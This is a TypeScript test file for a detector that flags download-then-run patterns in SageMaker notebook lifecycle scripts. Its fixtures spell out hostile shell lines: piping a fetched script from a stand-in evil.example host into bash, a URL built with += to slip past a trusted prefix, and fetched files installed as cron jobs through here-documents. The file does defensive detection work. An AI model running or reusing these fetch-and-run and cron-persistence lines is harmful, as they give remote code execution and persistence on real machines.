import { describe, expect, it } from 'vitest';
import { scriptFactsOf } from '../../../connectors/sagemaker/notebooks.js';

/**
 * Download-then-run a lifecycle script hides (verify27c): a URL built with `+=` over lines, a here-document installed
 * as a cron table, and a cron line naming the fetched file as `$PWD/file` (AWS's auto-stop-idle sample:
 * aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples scripts/auto-stop-idle/on-start.sh wgets
 * autostop.py from GitHub's master branch and writes a cron line running it every five minutes as root).
 */
const b64 = (s: string) => Buffer.from(s).toString('base64');
const piped = (script: string) => scriptFactsOf([{ hook: 'on_start', content: b64(script) }]).piped_to_shell;

describe('lifecycle script evasions', () => {
  it('a URL appended to with += is the whole URL, not its first part (a trusted prefix would pass a host glued on)', () => {
    expect(piped('U=https://tools.corp.example\nU+=.evil.example/x.sh\ncurl -s $U | bash')).toEqual(['https://tools.corp.example.evil.example/x.sh']);
    expect(piped('U="https://evil"\nU+=".example/x.sh"\ncurl -s -o /tmp/x.sh "$U"\nbash /tmp/x.sh')).toEqual(['https://evil.example/x.sh']);
  });
  it('a here-document installed as a cron table runs its lines later: a fetched file run there is run unread', () => {
    expect(piped('curl -s -o /tmp/c.sh https://evil.example/c.sh\ncrontab - <<EOF\n*/5 * * * * bash /tmp/c.sh\nEOF')).toEqual(['https://evil.example/c.sh']);
    expect(piped("wget -O /opt/j.py https://evil.example/j.py\ncat <<'CRON' | crontab -\n@reboot python3 /opt/j.py\nCRON")).toEqual(['https://evil.example/j.py']);
    expect(piped('wget -O /opt/j.py https://evil.example/j.py\ncat > /etc/cron.d/j <<EOF\n0 * * * * root python3 /opt/j.py\nEOF')).toEqual(['https://evil.example/j.py']);
    // A here-document that is no cron table, and a cron table running nothing fetched, are not.
    expect(piped('curl -s -o /tmp/c.sh https://evil.example/c.sh\ncat > /tmp/notes <<EOF\n*/5 * * * * bash /tmp/c.sh\nEOF')).toEqual([]);
    expect(piped('curl -s -o /tmp/c.json https://data.example/c.json\ncrontab - <<EOF\n*/5 * * * * bash /opt/team/sync.sh\nEOF\nbash /tmp/c.json.sh')).toEqual([]);
  });
  it("auto-stop-idle: the fetched autostop.py written into cron as $PWD/autostop.py is download-then-run", () => {
    const script = [
      '#!/bin/bash',
      'set -e',
      'IDLE_TIME=3600',
      'wget https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py',
      'CONDA_PYTHON_DIR=$(source /home/ec2-user/anaconda3/bin/activate /home/ec2-user/anaconda3/envs/JupyterSystemEnv && which python)',
      'if $CONDA_PYTHON_DIR -c "import boto3" 2>/dev/null; then',
      '    PYTHON_DIR=$CONDA_PYTHON_DIR',
      'fi',
      '(crontab -l 2>/dev/null; echo "*/5 * * * * $PYTHON_DIR $PWD/autostop.py --time $IDLE_TIME --ignore-connections >> /var/log/jupyter.log") | crontab -',
    ].join('\n');
    expect(piped(script)).toEqual(['https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py']);
    // The same cron line naming a file the script did not fetch is no finding.
    expect(piped(script.replace('wget https', 'echo https'))).toEqual([]);
  });
});
